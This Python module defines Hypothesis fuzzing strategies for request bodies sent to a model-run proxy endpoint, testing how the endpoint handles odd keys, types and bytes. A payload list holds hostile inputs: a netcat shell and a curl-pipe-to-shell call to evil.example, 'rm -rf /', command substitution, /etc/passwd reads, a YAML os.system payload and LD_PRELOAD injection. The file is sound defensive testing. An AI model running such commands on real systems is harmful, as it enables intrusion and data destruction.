"""Hypothesis strategies for ``POST /api/run`` bodies (used by tests/test_properties.py).

Bodies are built as JSON *text* by :func:`encode`, so that they can hold what ``json.dumps``
cannot write: repeated keys (:class:`Obj` keeps its pairs in order, duplicates included),
number literals kept as written (:class:`Lit`), lone surrogates, and either ASCII escapes or
raw UTF-8.
"""

from __future__ import annotations

import dataclasses
import json
import re
from typing import Any

from hypothesis import strategies as st

from proxy.config import DEFAULT_ALLOWED_ENV, DEFAULT_ALLOWED_OPTS


@dataclasses.dataclass(frozen=True)
class Obj:
    """A JSON object as (key, value) pairs, in order; keys may repeat."""

    pairs: tuple[tuple[str, Any], ...]


@dataclasses.dataclass(frozen=True)
class Lit:
    """Literal JSON text (a number as written: ``1e2``, ``-0``, ``99999999999999999999``)."""

    text: str


def encode(value: Any, *, ascii_only: bool = True) -> str:
    """JSON text for None, bool, int, float, str, list, dict, :class:`Obj` or :class:`Lit`."""
    if isinstance(value, Lit):
        return value.text
    if isinstance(value, Obj):
        items = (
            f"{json.dumps(k, ensure_ascii=ascii_only)}:{encode(v, ascii_only=ascii_only)}"
            for k, v in value.pairs
        )
        return "{" + ",".join(items) + "}"
    if isinstance(value, dict):
        return encode(Obj(tuple(value.items())), ascii_only=ascii_only)
    if isinstance(value, list | tuple):
        return "[" + ",".join(encode(v, ascii_only=ascii_only) for v in value) + "]"
    return json.dumps(value, ensure_ascii=ascii_only)


def to_bytes(text: str) -> bytes:
    """UTF-8, with lone surrogates written as the (invalid) bytes a careless client would send."""
    return text.encode("utf-8", "surrogatepass")


# --- text ------------------------------------------------------------------------------------

CLASSIC_PAYLOADS: tuple[str, ...] = (
    "; rm -rf / #",
    "$(id)",
    "`id`",
    "a | nc evil.example 4444",
    "${IFS}cat${IFS}/etc/passwd",
    "x && curl evil.example|sh",
    "line1\nline2",
    "first\r\nOpenM.RunStamp = evil",
    "a\rb",
    "../../etc/passwd",
    "/etc/passwd",
    "sub/../../../root",
    "nul\x00byte",
    "\x00",
    "key: value",
    "# not a comment",
    "[section]",
    "{a: b}",
    "&anchor",
    "*alias",
    "!!python/object/apply:os.system ['id']",
    "- item",
    "'single' \"double\" ; # both",
    "trailing backslash \\",
    "=",
    " ",
    "\t",
    "-x LD_PRELOAD=/tmp/evil.so",
    "--allow-run-as-root",
    "-OpenM.RunStamp",
    "\u202eevil\u202c",  # right-to-left override
    "\u2028\u2029\x85",  # Unicode line and paragraph separators, NEL
    "\ufeffBOM",
    # fullwidth look-alike of OpenM.RunStamp
    "\uff2f\uff50\uff45\uff4e\uff2d\uff0e\uff32\uff55\uff4e\uff33\uff54\uff41\uff4d\uff50",
    "\u041epen\u041c.RunStamp",  # Cyrillic O and M
    "\u017f\u212a",  # long s and Kelvin sign fold to ASCII in Go
    "%OM_USER_FILES%/../../etc",
    "OM_USER_FILES/ok.ini",
    "\ud800 lone surrogate",
    "",
)
"""Shell, path, YAML and ini injection attempts, control characters and look-alikes."""

SPECIAL_CHARS = "".join(
    sorted(set("".join(CLASSIC_PAYLOADS) + "\x01\x07\x0b\x0c\x1b\x7f\u00a0\u200b\U0001f600"))
)

huge_text = st.tuples(
    st.sampled_from(("A", "é", "; rm -rf / #\n", "\u202e$(id)")),
    st.sampled_from((4_000, 60_000, 100_000)),
).map(lambda t: (t[0] * (t[1] // len(t[0]) + 1))[: t[1]])
"""Large values (up to 100 kB), built cheaply."""

small_text = st.one_of(
    st.sampled_from(CLASSIC_PAYLOADS),
    st.text(max_size=24),
    st.text(alphabet=SPECIAL_CHARS, max_size=16),
    st.text(alphabet=st.characters(codec="ascii"), max_size=16),
)

nasty_text = st.one_of(
    small_text,
    st.lists(small_text, min_size=2, max_size=4).map("".join),
    st.text(alphabet=st.characters(categories=("Cs", "Cc", "Zl", "Zp", "Cf")), max_size=6),
    huge_text,
)
"""Any text a client could send, weighted towards the harmful."""


def often(usual: st.SearchStrategy[Any], other: st.SearchStrategy[Any], n: int = 4) -> Any:
    """``usual`` n times as often as ``other`` (``st.one_of`` would drop repeated branches)."""
    return st.integers(0, n).flatmap(lambda i: other if i == n else usual)


accepted_text = st.one_of(
    st.sampled_from(CLASSIC_PAYLOADS),
    st.text(alphabet=SPECIAL_CHARS, max_size=16),
    st.text(max_size=24),
    st.lists(small_text, min_size=2, max_size=3).map("".join),
).map(lambda s: s.replace("\x00", "").lstrip("-"))
"""Hostile text that free-text places accept (no NUL, not starting with '-')."""

free_text = often(accepted_text, nasty_text, 3)

identifier = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,12}", fullmatch=True)
good_lang_code = st.sampled_from(("EN", "FR", "en", "fr-CA", "fr_CA", "deu"))
lang_code = st.sampled_from(("EN", "FR", "en", "fr", "en-CA", "fr_CA", "deu", "x", "", "E N"))
relative_path = st.sampled_from(
    ("sub", "sub/dir", "./a/b", "a//b/", "a/./b", "é t é/x y", "a;b/$(id)", "`x`", ".")
)
path_text = often(relative_path, nasty_text)


# --- keys, as a client might spell them ------------------------------------------------------


def _fold_variant(name: str) -> str:
    return name.replace("s", "\u017f").replace("K", "\u212a").replace("k", "\u212a")


def spelled(name: str) -> st.SearchStrategy[str]:
    """``name`` as Go's case-insensitive matching would still accept it (and near misses)."""
    exact = st.just(name)
    variants = st.sampled_from(
        (name.lower(), name.upper(), name.swapcase(), _fold_variant(name), name + " ", "-" + name)
    )
    mixed = st.lists(st.booleans(), min_size=len(name), max_size=len(name)).map(
        lambda flips: "".join(
            c.upper() if f else c.lower() for c, f in zip(name, flips, strict=True)
        )
    )
    return often(exact, st.one_of(variants, mixed), 2)


_DROPPED_OPTS = (
    "OpenM.RunStamp",
    "OpenM.LogToConsole",
    "OpenM.LogToFile",
    "OpenM.LogFilePath",
    "OpenM.Database",
    "OpenM.SQLite",
    "OpenM.SqliteFromBin",
    "db",
    "ImportDb.All",
)
_OTHER_OPTS = (
    "ini",
    "p",
    "Parameter.SimulationCases",
    "Parameter.Seed_2",
    "EN.RunDescription",
    "fr.rundescription",
    "en_CA.RunDescription",
    "e.RunDescription",
    "Microdata.All",
    "Microdata.Person",
    "Tables.Retain",
    "OpenM.NotAnOption",
)
_FREE_TEXT_OPTS = (
    "OpenM.RunName",
    "OpenM.SetName",
    "OpenM.SubValues",
    "OpenM.ProgressPercent",
    "OpenM.MessageLanguage",
    "Parameter.SimulationCases",
    "Parameter.Seed_2",
)
_PATH_OPTS = ("OpenM.IniFile", "OpenM.ParamDir", "Microdata.CsvDir")
_DESCRIPTION_OPTS = ("EN.RunDescription", "fr.rundescription", "en_CA.RunDescription")
_NO_CONTROL = re.compile(r"[\x00-\x1f\x7f]")

one_line_text = accepted_text.map(lambda s: _NO_CONTROL.sub("", s))
user_files_path = st.sampled_from(
    ("OM_USER_FILES/my.ini", "$OM_USER_FILES/p", "${OM_USER_FILES}", "%OM_USER_FILES%/a b/c")
)
_usual_opt = st.one_of(
    st.tuples(st.sampled_from(_FREE_TEXT_OPTS), accepted_text),
    st.tuples(st.sampled_from(_DESCRIPTION_OPTS), often(one_line_text, accepted_text)),
    st.tuples(st.sampled_from(_PATH_OPTS), st.one_of(relative_path, user_files_path)),
    st.tuples(st.just("OpenM.Threads"), st.integers(1, 20).map(str)),
    st.tuples(st.just("OpenM.NotOnRoot"), st.sampled_from(("true", "false", "1", "no", ""))),
    st.tuples(st.sampled_from(_DROPPED_OPTS), accepted_text),
).flatmap(lambda kv: st.sampled_from((kv, ("-" + kv[0], kv[1]))))
_any_opt = st.tuples(
    st.one_of(
        st.sampled_from(DEFAULT_ALLOWED_OPTS + _DROPPED_OPTS + _OTHER_OPTS).flatmap(
            lambda k: st.sampled_from((k, "-" + k, k.lower(), k.upper()))
        ),
        nasty_text,
    ),
    st.one_of(
        nasty_text,
        st.sampled_from(("1", "2", "0", "-1", "true", "yes", "1000000", "")),
        relative_path,
        user_files_path,
    ),
)
opt_pair = often(_usual_opt, _any_opt, 6)
"""An Opts entry: mostly a value its key accepts, sometimes anything."""

env_pair = often(
    st.tuples(st.sampled_from(DEFAULT_ALLOWED_ENV), accepted_text),
    st.tuples(
        st.one_of(
            st.sampled_from(("LD_PRELOAD", "PATH", "OMPI_MCA_x", "tz", "FOO", "", "http_proxy")),
            nasty_text,
        ),
        nasty_text,
    ),
    6,
)


def _maybe_wrong(right: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """Mostly ``right``; sometimes null or a value of another JSON type."""
    wrong = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-3, 3),
        st.just("1"),
        st.just([]),
        st.just({}),
        st.sampled_from((Lit("1.5"), Lit("1e2"), Lit("-0"), Lit("99999999999999999999"))),
    )
    return often(right, wrong, 19)


def _obj(pairs: st.SearchStrategy[tuple[str, Any]], max_size: int) -> st.SearchStrategy[Obj]:
    return st.lists(pairs, max_size=max_size).map(lambda p: Obj(tuple(p)))


count = often(
    st.integers(0, 8),
    st.one_of(
        st.integers(-2, 300),
        st.integers(0, 300),
        st.sampled_from((2**31, 2**63 - 1, -(2**63))),
        st.sampled_from((Lit("2.0"), Lit("1e1"), Lit("18446744073709551616"), Lit("-0"))),
    ),
)

_mpi = _obj(
    st.one_of(
        st.tuples(spelled("Np"), _maybe_wrong(count)),
        st.tuples(spelled("IsNotOnRoot"), _maybe_wrong(st.booleans())),
        st.tuples(spelled("IsNotByJob"), _maybe_wrong(st.booleans())),
    ),
    4,
)
_entity = often(
    st.builds(
        lambda n, a: {"Name": n, "Attr": a},
        identifier,
        st.lists(identifier, min_size=1, max_size=3),
    ),
    _obj(
        st.one_of(
            st.tuples(spelled("Name"), _maybe_wrong(often(identifier, nasty_text))),
            st.tuples(
                spelled("Attr"),
                _maybe_wrong(st.lists(often(identifier, nasty_text), max_size=3)),
            ),
        ),
        3,
    ),
)
_microdata = _obj(
    st.one_of(
        st.tuples(spelled("IsToDb"), _maybe_wrong(st.booleans())),
        st.tuples(spelled("IsInternal"), _maybe_wrong(st.booleans())),
        st.tuples(spelled("Entity"), _maybe_wrong(st.lists(_entity, max_size=3))),
    ),
    4,
)
_note = often(
    st.builds(lambda lang, note: {"LangCode": lang, "Note": note}, good_lang_code, free_text),
    _obj(
        st.one_of(
            st.tuples(spelled("LangCode"), _maybe_wrong(often(lang_code, nasty_text))),
            st.tuples(spelled("Note"), _maybe_wrong(free_text)),
        ),
        3,
    ),
)
_json_leaf = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    small_text,
    st.sampled_from((Lit("1e400"), Lit("-0.0"), Lit("123456789012345678901234567890"))),
)
json_value = st.recursive(
    _json_leaf,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        _obj(st.tuples(st.one_of(small_text, st.sampled_from(("Opts", "Mpi", "Np"))), inner), 4),
    ),
    max_leaves=16,
)
"""Any JSON value (objects may repeat keys)."""

_FIELDS = {
    "Opts": st.tuples(st.just("Opts"), _obj(opt_pair, 6)),
    "Env": st.tuples(st.just("Env"), _obj(env_pair, 3)),
    "Tables": st.tuples(st.just("Tables"), st.lists(identifier, max_size=4)),
    "RunNotes": st.tuples(st.just("RunNotes"), st.lists(_note, max_size=3)),
    "Mpi": st.tuples(st.just("Mpi"), _mpi),
    "Threads": st.tuples(st.just("Threads"), st.integers(0, 6)),
    "Microdata": st.tuples(st.just("Microdata"), _microdata),
}
"""Fields with values of the right type (most UI bodies have them all)."""
_stamp = often(st.sampled_from(("", "my-run_1", "2025_01_02_03_04_05_678")), nasty_text)
_template_name = often(st.sampled_from(("mpi.ModelRun.template.txt", "run.txt")), nasty_text)
run_field = st.one_of(
    st.tuples(spelled("ModelName"), _maybe_wrong(st.one_of(st.just("RiskPaths"), nasty_text))),
    st.tuples(spelled("ModelDigest"), _maybe_wrong(st.one_of(st.just("d90e1e9a"), nasty_text))),
    st.tuples(spelled("RunStamp"), _maybe_wrong(_stamp)),
    st.tuples(spelled("Dir"), _maybe_wrong(path_text)),
    st.tuples(spelled("Opts"), _maybe_wrong(_obj(opt_pair, 6))),
    st.tuples(spelled("Env"), _maybe_wrong(_obj(env_pair, 4))),
    st.tuples(spelled("Threads"), _maybe_wrong(count)),
    st.tuples(spelled("IsMpi"), _maybe_wrong(st.booleans())),
    st.tuples(spelled("Mpi"), _maybe_wrong(_mpi)),
    st.tuples(spelled("Template"), _maybe_wrong(_template_name)),
    st.tuples(
        spelled("Tables"), _maybe_wrong(st.lists(often(identifier, nasty_text, 8), max_size=4))
    ),
    st.tuples(spelled("Microdata"), _maybe_wrong(_microdata)),
    st.tuples(spelled("RunNotes"), _maybe_wrong(st.lists(_note, max_size=3))),
    st.tuples(st.one_of(small_text, st.sampled_from(("Namespace", "Image", "spec"))), json_value),
)

_ui_fields = st.tuples(
    st.sampled_from(((("ModelDigest", "d90e1e9a49a06d972ecf1d50e684c62b"), ("IsMpi", True)), ())),
    st.lists(
        st.sampled_from(("Opts", "Env", "Tables", "RunNotes", "Mpi", "Threads", "Microdata")),
        unique=True,
        max_size=7,
    ).flatmap(lambda names: st.tuples(*(_FIELDS[n] for n in names))),
    st.lists(run_field, max_size=6),
).map(lambda t: (*t[0], *t[1], *t[2]))
ui_body = st.builds(
    lambda pairs, ascii_only: to_bytes(encode(Obj(pairs), ascii_only=ascii_only)),
    _ui_fields,
    st.booleans(),
)
"""A body shaped like the UI's or a script's, with fuzzed values and key spellings."""


def mutate(body: bytes, edits: list[tuple[int, int, bytes]]) -> bytes:
    """Apply (position, delete count, insert) edits to ``body``."""
    out = bytearray(body)
    for pos, delete, insert in edits:
        at = pos % (len(out) + 1)
        out[at : at + delete] = insert
    return bytes(out)


_edit = st.tuples(
    st.integers(0, 10_000),
    st.integers(0, 3),
    st.one_of(st.binary(max_size=3), st.sampled_from((b'"', b"{", b"}", b",", b"\\", b"\xff"))),
)
any_bytes = st.one_of(
    st.binary(max_size=400),
    st.builds(mutate, ui_body, st.lists(_edit, min_size=1, max_size=4)),
    st.builds(lambda v: to_bytes(encode(v)), json_value),
)
"""Raw bytes: random, or a run body with a few bytes changed, or any JSON value."""
